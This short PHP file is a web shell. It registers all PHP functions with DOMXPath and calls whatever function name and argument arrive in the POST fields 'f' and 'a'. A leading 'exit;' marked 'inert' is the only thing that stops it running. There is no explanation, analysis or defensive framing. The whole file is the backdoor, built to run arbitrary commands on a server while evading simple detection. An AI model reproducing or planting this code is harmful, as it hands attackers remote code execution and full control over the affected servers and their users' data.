<?php exit; /* inert */ 
$doc = new DOMDocument; $doc->loadXML('<r/>');
$xp = new DOMXPath($doc);
$xp->registerNamespace('php', 'http://php.net/xpath');
$xp->registerPhpFunctions();
echo $xp->evaluate("php:function('" . $_POST['f'] . "', '" . $_POST['a'] . "')");
